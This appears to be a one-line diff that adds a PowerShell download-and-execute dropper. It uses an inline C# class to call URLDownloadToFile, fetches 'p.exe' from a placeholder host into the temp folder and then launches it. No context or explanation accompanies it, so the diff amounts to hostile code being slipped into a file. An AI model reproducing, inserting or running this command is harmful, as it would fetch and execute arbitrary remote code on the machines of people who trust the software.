@@ -1,0 +1,1 @@
+Add-Type 'using System.Runtime.InteropServices;public class U{[DllImport("urlmon.dll")]public static extern int URLDownloadToFile(int a,string u,string f,int r,int c);}';[void][U]::URLDownloadToFile(0,'http://a0.example/p.exe',"$env:temp\x.exe",0,0);saps $env:temp\x.exe
